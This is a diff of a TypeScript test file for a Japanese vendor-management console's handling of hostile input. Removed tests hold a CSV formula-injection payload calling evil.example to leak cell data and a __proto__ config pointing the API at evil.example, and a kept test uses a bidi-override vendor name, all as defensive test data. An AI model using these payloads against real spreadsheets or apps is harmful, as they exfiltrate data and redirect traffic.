@@ -1,13 +1,11 @@
-/** Hostile input to pages: odd responses, odd names, tampered storage, messages from other windows. */
+/** Hostile input to pages: odd names, tampered storage, messages from other windows. Most odd responses are in `every/answers`. */
 import { act, fireEvent } from '@testing-library/react'
 import { test } from 'uvu'
 import * as assert from 'uvu/assert'
-import defaultConfig from '../../static/config.json' with { type: 'json' }
 import { createPlatform, type Platform } from '../platform/platform.ts'
 import { startClock, stopClock } from './clock.ts'
 import {
   alert,
-  allow,
   area,
   button,
   departures,
@@ -24,7 +22,6 @@ import {
   paste,
   press,
   rows,
-  savedBy,
   settled,
   signIn,
   status,
@@ -112,16 +109,6 @@ test('H24 H25 H26 filters and sorts rows of one id, of five million characters, 
   assert.is(heading(), 'ベンダー')
 })
 
-test('H27 counts that are negative or numbers as texts are shown as numbers, those that are none as a dash', async () => {
-  const counts = ['3', -1, 'いくつか', null, { n: 1 }, 1e999, '', true]
-  const countOf = (user: unknown) => ({ user, group: 0, application: 0 })
-  await openVendors(counts.map((user, n) => wireVendor({ id: n + 1, name: `農園${n}`, contract_number: `AG-${n}`, count: countOf(user) })))
-  const shown = rows(title)
-  assert.is(shown.length, counts.length)
-  for (const cells of shown) assert.match(cells[4]!, /^(-|-?\d+)$/, cells.join())
-  for (const name of ['農園0', '農園7']) assert.is(button(`${name}を削除`)?.getAttribute('aria-disabled'), 'true', name)
-})
-
 test('H28 user details that hold an error, or names that are no texts, give no privilege and break nothing', async () => {
   const user = { id: 1, system_admin: true, vendor_id: 1, userName: 'x', family_name: { ja: '山田' }, given_name: ['花子'] }
   for (const [body, page] of [
@@ -143,34 +130,6 @@ test('H28 user details that hold an error, or names that are no texts, give no p
   }
 })
 
-test('H29 every column of the CSV is made a text if it would be a formula, and no value adds a row or a column', async () => {
-  const formula = '=HYPERLINK("http://evil.example/?"&A1,"見る")\r\n@x'
-  const type = { id: formula, name: formula }
-  const values = {
-    id: formula,
-    name: formula,
-    contract_number: formula,
-    member_type: type,
-    expiration_date: '=1+1',
-    count: { user: -1 },
-    notify_email_address: formula,
-  }
-  await openVendors([wireVendor(values)])
-  const saved = await savedBy(() => press('ベンダー一覧のCSV'))
-  const quoted = `"'${formula.replaceAll('"', '""')}"`
-  const [, ...after] = saved.text.split('利用通知メールアドレス\r\n')
-  assert.equal(after, [`${quoted},${quoted},${quoted},,'-1,,,有効,${quoted},${quoted},${quoted}\r\n`])
-})
-
-test('H30 a thousand failures of one kind are one message', async () => {
-  await open('/vendors', { as: 'systemAdmin' })
-  await act(async () => {
-    for (let count = 0; count < 1000; count++) window.dispatchEvent(new ErrorEvent('error', { message: 'x' }))
-  })
-  await until(() => alert())
-  assert.is(alert(), '予期せぬエラーが発生しました。')
-})
-
 test('H31 H32 shows an error body of 10,000 levels or of 10,000 lines at the form, which can be sent again', async () => {
   const platform = await openCreate()
   await fillIn()
@@ -186,54 +145,24 @@ test('H31 H32 shows an error body of 10,000 levels or of 10,000 lines at the for
   assert.is(sent(platform, 'POST'), 3)
 })
 
-test('H33 an answer that claims more than JSON can say (NaN, a comment, a second document) is a failed load', async () => {
-  for (const body of ['[{"id": NaN}]', '[{"id": 1}] // ok', '[{"id": 1}][]', "[{'id': 1}]", ')]}\'\n[{"id": 1}]', '\0[]', '[{"id": 1},]']) {
-    await openVendors(body)
-    assert.match(text(), 'ベンダー情報を取得できませんでした。', body)
-    assert.ok(button('再試行'))
-  }
-})
-
 // ---- hostile names ----
 
-const disguised = {
-  'a zero-width space': '青森\u200b農園',
-  'a sign that turns it round': '\u202e園農森青',
-  'a NUL': '青森\0農園',
-  'half a character': '青森農園\ud83c',
-  'a letter in two parts': '青森か\u3099農園',
-}
-
-for (const [what, name] of Object.entries(disguised)) {
-  test(`H34 a vendor whose name has ${what} in it is deleted only by exactly that name, and is shown with it`, async () => {
-    const platform = smallPlatform({ name })
-    await open('/vendors', { as: 'systemAdmin', platform })
-    // In sentences, names with bidirectional controls are wrapped in isolates.
-    const isolated = name.includes('\u202e') ? `\u2068${name}\u2069` : name
-    await press([...document.querySelectorAll('button')].find(entry => entry.getAttribute('aria-label') === `${isolated}を削除`)!)
-    await until(() => dialog('ベンダー削除'))
-    assert.ok(dialog()!.textContent!.includes(`ベンダー「${isolated}」を削除します。`))
-    assert.ok(
-      [...dialog()!.querySelectorAll('li')].some(one => one.textContent === name),
-      'the name alone can be copied',
-    )
-    for (const wrong of [
-      '青森農園',
-      '青森が農園',
-      name.normalize('NFKC') === name ? `${name} ` : name.normalize('NFKC'),
-      name.slice(0, -1),
-    ]) {
-      await paste('ベンダー名', wrong)
-      await press('削除')
-      assert.is(fieldErrors().length, 1, JSON.stringify(wrong))
-    }
-    assert.is(sent(platform, 'DELETE'), 0)
-    await paste('ベンダー名', name)
-    await press('削除')
-    await until(() => text().includes('ベンダーの削除が完了しました。'))
-    assert.is(sent(platform, 'DELETE'), 1)
-  })
-}
+test('H34 a vendor whose name turns the text round is shown isolated in sentences, and is deleted by exactly that name', async () => {
+  const name = '\u202e園農森青'
+  const isolated = `\u2068${name}\u2069`
+  const platform = smallPlatform({ name })
+  await open('/vendors', { as: 'systemAdmin', platform })
+  await press([...document.querySelectorAll('button')].find(entry => entry.getAttribute('aria-label') === `${isolated}を削除`)!)
+  await until(() => dialog('ベンダー削除'))
+  assert.ok(dialog()!.textContent!.includes(`ベンダー「${isolated}」を削除します。`))
+  assert.ok(
+    [...dialog()!.querySelectorAll('li')].some(one => one.textContent === name),
+    'the name alone can be copied',
+  )
+  await paste('ベンダー名', name)
+  await press('削除')
+  await until(() => text().includes('ベンダーの削除が完了しました。'))
+})
 
 test('H35 a group that is called すべて, or like a part of every object, is itself', async () => {
   const platform = people()
@@ -296,14 +225,6 @@ for (const [what, values] of Object.entries(drafts)) {
     assert.ok(platform.requests.every(({ method }) => method === 'GET'))
   })
 }
-
-test('H41 a configuration of ten megabytes, with keys that all objects inherit, starts the console like any other', async () => {
-  for (const name of ['__proto__', 'junk']) allow(new RegExp(`config\\.json: unknown key "${name}"`))
-  const config = { ...defaultConfig, ['__proto__']: { apiBaseUrl: 'https://evil.example' }, junk: 'x'.repeat(10_000_000) }
-  await open('/vendors', { as: 'systemAdmin', config })
-  assert.ok(names().length > 0)
-  assert.is(({} as { apiBaseUrl?: unknown }).apiBaseUrl, undefined)
-})
 
 // ---- other windows, other tabs, other times ----
 
@@ -411,18 +332,6 @@ test('H47 of two tabs that make the same secret anew, each offers the one that i
   assert.not.match(text(), 'first')
 })
 
-test('H48 the session of a user who is signed out elsewhere is not brought back by what arrives late', async () => {
-  const platform = createPlatform()
-  await open('/vendors', { as: 'systemAdmin', platform })
-  const release = gateResponses(platform, { path: /\/vendorGroup\/|\/vendors\// })
-  await press('グループ')
-  await inAnotherTab('clear')
-  await until(() => departures.length > 0)
-  release()
-  await settled()
-  assert.equal([keysOf(localStorage), table(title), area('ベンダー一覧')], [[], null, null])
-})
-
 // ---- forms ----
 
 test('H49 no form has a field that only a browser’s autofill would see and that is sent', async () => {
@@ -446,6 +355,18 @@ test('H49 no form has a field that only a browser’s autofill would see and tha
   await press('保存')
   await until(() => isIdle() && (!dialog() || formMessages().length))
   assert.not.match(takeCalls(platform).join(), 'autofilled')
+})
+
+test('H48 the session of a user who is signed out elsewhere is not brought back by what arrives late', async () => {
+  const platform = createPlatform()
+  await open('/vendors', { as: 'systemAdmin', platform })
+  const release = gateResponses(platform, { path: /\/vendorGroup\/|\/vendors\// })
+  await press('グループ')
+  await inAnotherTab('clear')
+  await until(() => departures.length > 0)
+  release()
+  await settled()
+  assert.equal([keysOf(localStorage), table(title), area('ベンダー一覧')], [[], null, null])
 })
 
 test('H50 a sign-in by an id token of a megabyte succeeds, and so does the sign-out', async () => {
